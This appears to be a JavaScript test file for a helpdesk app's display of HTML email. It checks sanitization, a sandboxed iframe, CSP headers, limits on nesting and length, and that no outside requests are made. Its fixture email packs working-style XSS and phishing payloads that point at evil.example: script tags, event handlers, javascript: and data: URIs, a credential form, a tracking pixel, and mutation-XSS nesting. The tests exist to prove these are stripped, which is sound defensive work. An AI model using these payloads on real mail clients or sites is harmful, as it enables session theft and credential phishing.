// mail_formatted.test.mjs - a mail as it was formatted, with nothing in it that runs, asks or sends.
//
// SPDX-License-Identifier: ISC
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { Desk, password } from './desk.mjs';
import { Person, launch, look } from './browser.mjs';

let desk, asha, id;

const page = (html, extra = '') =>
  `From: Ines Moreau <ines@example.com>\r\nTo: help@fenland.example\r\nSubject: Our bill\r\n` +
  `Message-ID: <${Math.random()}@example.com>\r\n${extra}MIME-Version: 1.0\r\n` +
  `Content-Type: multipart/alternative; boundary=x\r\n\r\n--x\r\nContent-Type: text/plain\r\n\r\n` +
  `The bill is wrong.\r\n--x\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${html}\r\n--x--\r\n`;

before(async () => {
  desk = await Desk.start();
  asha = await desk.login('asha');
  await desk.deliver(
    page(
      '<html><head><style>p{color:red}</style><base href="https://evil.example/">' +
        '<meta http-equiv="refresh" content="0;url=https://evil.example/"></head>' +
        '<body onload="steal()"><h2>Our bill</h2><table><tr><td style="background:url(//evil.example/t)">' +
        'May' +
        '</td><td>£48.20</td></tr></table><ul><li>charged <b>twice</b></li></ul>' +
        '<script>steal()</script><img src="https://evil.example/pixel.gif" alt="our logo">' +
        '<img src="data:image/svg+xml,<svg onload=steal()>">' +
        '<a href="https://shop.example/bill?a=1&b=2" onclick="steal()">the bill</a> ' +
        '<a href="javascript:steal()">click</a> <a href="data:text/html,<script>steal()</script>">this</a>' +
        '<form action="https://evil.example/"><input name="password"><button>Send</button></form>' +
        '<iframe src="https://evil.example/"></iframe><object data="x"></object>' +
        '<p>Yours, Ines</p><svg><style><img src=x onerror=steal()></style></svg>' +
        '<math><mtext><table><mglyph><style><!--</style>' +
        '<img title="--&gt;&lt;img src=1 onerror=steal()&gt;">' +
        '</math></body></html>',
    ),
  );
  id = await asha.find('Ines');
});

after(() => desk?.stop());

const first = async (of) => (await asha.get(`/cases/${of}`)).html.match(/<iframe src="([^"]+)/)[1];
const where = async (n = -1) => {
  const { html } = await asha.get(`/cases/${id}`);
  return [...html.matchAll(/<iframe src="([^"]+)"/g)].map((m) => m[1]).at(n);
};

test('its shape is there, and nothing of what could harm', async () => {
  const { html, status } = await asha.get(await where());
  assert.equal(status, 200);
  for (const kept of [
    /<h2>Our bill<\/h2>/,
    /<td>May\s*<\/td><td>£48\.20<\/td>/,
    /<li>charged <b>twice<\/b><\/li>/,
    /\[our logo\]/,
    /href="https:\/\/shop\.example\/bill\?a=1&amp;b=2">the bill<\/a> <small>\(https:\/\/shop\.example\/bill/,
    /rel="noreferrer noopener nofollow"/,
    /Yours, Ines/,
  ])
    assert.match(html, kept);
  const body = html.slice(html.indexOf('<body>'));
  assert.doesNotMatch(body, /<(script|style|img|iframe|form|input|button|object|svg|math|base|meta)/i);
  assert.doesNotMatch(body, /evil|steal|javascript|data:|\son\w+=|style=/i);
});

test('it stands in a box: nothing of it may run, ask or send', async () => {
  const page = await asha.get(await where());
  const policy = page.headers.get('content-security-policy');
  assert.match(policy, /^sandbox allow-popups allow-popups-to-escape-sandbox; default-src 'none'/);
  assert.doesNotMatch(policy, /allow-scripts|allow-same-origin|allow-forms|allow-top-navigation/);
  assert.match(policy, /form-action 'none'; base-uri 'none'; frame-ancestors 'self'/);
  const frame = (await asha.get(`/cases/${id}`)).html.match(/<iframe[^>]*>/)[0];
  assert.match(frame, /sandbox="allow-popups allow-popups-to-escape-sandbox"/);
  assert.equal((await desk.visitor().request(await where())).status, 303);
});

test('what nests without end is read in bounded time, as words', async () => {
  for (const tag of ['<div>', '<b>', '<table><tr><td>', '<a href="https://x.example/">', '<p><ul><li>']) {
    await desk.deliver(page(`${tag.repeat(100000 / tag.length)}deep down`, 'In-Reply-To: <x@y>\r\n'));
    const { body } = await asha.json('/cases?q=Ines');
    const began = Date.now();
    const shown = await asha.get(await first(body.cases[0].id));
    assert.ok(Date.now() - began < 5000, `${tag}: ${Date.now() - began} ms`);
    assert.match(shown.text, /deep down/);
  }
});

test('a page that is too long is cut, and says so', async () => {
  await desk.deliver(page(`<p>${'&amp;'.repeat(300000)}</p>`, 'X-Long: 1\r\n'));
  const { body } = await asha.json('/cases?q=Ines');
  const shown = await asha.get(await first(body.cases[0].id));
  assert.ok(shown.html.length <= 1 << 20, String(shown.html.length));
  assert.match(shown.text, /the rest is not shown here/);
});

test('a mail of plain words says that it has no other form', async () => {
  await desk.mail('Only words.', { id: 'plain', from: 'Leo <leo@example.net>' });
  const leo = await asha.find('leo@example.net');
  const address = (await asha.get(`/cases/${leo}`)).html.match(/<iframe src="([^"]+)/)[1];
  assert.match((await asha.get(address)).text, /came as plain words/);
});

test('what they forwarded stands open under its own name; what they quoted is folded', async () => {
  await desk.mail(
    'See below. She is 81.\n\n---------- Forwarded message ---------\nFrom: Van 12 <van@courier.example>\n' +
      'Date: Sun, 31 May 2026 at 18:02\nSubject: Delivery\n\nnobody home. not coming back',
    { id: 'forward', from: 'Ben <ben@example.net>', subject: 'Fwd: Delivery' },
  );
  const ben = await asha.find('ben@example.net');
  assert.match((await asha.get(`/cases/${ben}`)).html, /<details open>\s*<summary>What they forwarded/);
  await desk.mail('Still waiting.\n\nOn Sun, 31 May 2026 at 18:02, Care wrote:\n> It comes on Saturday.', {
    id: 'answer',
    answers: 'forward',
    from: 'Ben <ben@example.net>',
    subject: 'Re: Delivery',
  });
  assert.match((await asha.get(`/cases/${ben}`)).html, /<details>\s*<summary>What they quoted below it/);
});

test('in a browser it opens in its frame, and asks nobody for anything', async () => {
  const browser = await launch();
  try {
    const person = await Person.open(browser, desk.base);
    const asked = [];
    person.page.on('request', (r) => asked.push(r.url()));
    await person.login('asha', password.asha);
    await person.page.goto(`/cases/${id}`);
    await person.page.getByText('As it was formatted').click();
    const frame = person.page.frameLocator('.formatted iframe');
    await frame.getByText('charged').waitFor();
    await look(person, 'a mail as it was formatted');
    assert.deepEqual(asked.filter((url) => !url.startsWith(desk.base)), []);
    person.nothingWrong();
  } finally {
    await browser.close();
  }
});
